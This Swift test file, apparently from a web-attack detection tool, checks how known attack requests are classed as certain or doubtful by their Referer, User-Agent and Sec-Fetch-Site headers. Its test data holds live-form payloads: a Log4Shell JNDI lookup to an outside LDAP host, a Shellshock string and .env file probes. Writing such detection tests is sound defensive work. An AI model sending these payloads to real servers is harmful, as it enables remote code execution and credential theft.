import Testing

@testable import Signatures

@Suite("A request that a web page may have led a visitor to")
struct DoubtTests {
  private static let firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
  private static let page = "https://forum.example/thread?id=1"
  private static let expression = "${jndi:ldap://192.0.2.7/a}"

  private func found(_ target: String, agent: String?, referer: String?) -> Match? {
    SignatureTable().match(
      Request(
        line: "GET \(target) HTTP/1.1".utf8, agent: agent.map { Array($0.utf8) },
        referer: referer.map { Array($0.utf8) }))
  }

  @Test(
    "is known, says why it is not certain, and never mails",
    arguments: [
      ("/scripts/root.exe", firefox, page), ("/.env", "curl/8", page),
      ("/.env", nil, "http://www.example.org/"),
      ("/default.ida?NNNNNNNNNNNN", firefox, "x"),
      ("/search?q=\(expression)", firefox, nil), ("/search?q=%24%7Bjndi:ldap://h/a}", firefox, "-"),
      ("/", firefox, "https://evil.example/?\(expression)"),
      ("/?\(expression)", firefox, "https://evil.example/?\(expression)"),
      ("/?\(expression)", "Opera/9.80 (X11; Linux)", nil), ("/?\(expression)", "curl/8", page),
      ("/?\(expression)", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nil),
    ] as [(String, String?, String?)])
  func doubtful(target: String, agent: String?, referer: String?) throws {
    let match = try #require(found(target, agent: agent, referer: referer))
    #expect(match.doubt != nil && !match.signature.mails)
  }

  @Test(
    "is told by Sec-Fetch-Site where there is no Referer",
    arguments: [
      ("cross-site", true), ("same-site", true), ("same-origin", true), ("none", false), ("-", false),
      ("", false),
    ])
  func fetchSite(value: String, isDoubtful: Bool) throws {
    for target in ["/.env", "/?\(Self.expression)"] {
      let request = Request(line: "GET \(target) HTTP/1.1".utf8, fetchSite: Array(value.utf8))
      let match = try #require(SignatureTable().match(request))
      #expect((match.doubt != nil) == isDoubtful)
    }
  }

  @Test(
    "is not one that has no Referer, or the attack where no page can write it",
    arguments: [
      ("/scripts/root.exe", nil, nil, "nimda"), ("/scripts/root.exe", firefox, nil, "nimda"),
      ("/.env", firefox, "-", "env-file"), ("/.env", firefox, "", "env-file"),
      ("/", "\(firefox) \(expression)", page, "log4shell"),
      ("/?\(expression)", expression, page, "log4shell"),
      ("/", nil, expression, "log4shell"), ("/", "curl/8", "https://x/?\(expression)", "log4shell"),
      ("/?\(expression)", nil, nil, "log4shell"), ("/?\(expression)", "python-requests/2", nil, "log4shell"),
      ("/", firefox, "() { :;}; id", "shellshock"),
      // What is certain counts, whatever else the request is.
      ("/.env", expression, page, "log4shell"),
    ] as [(String, String?, String?, String)])
  func certain(target: String, agent: String?, referer: String?, name: String) throws {
    let match = try #require(found(target, agent: agent, referer: referer))
    #expect(match.doubt == nil && match.signature.mails && match.signature.name == name)
  }
}
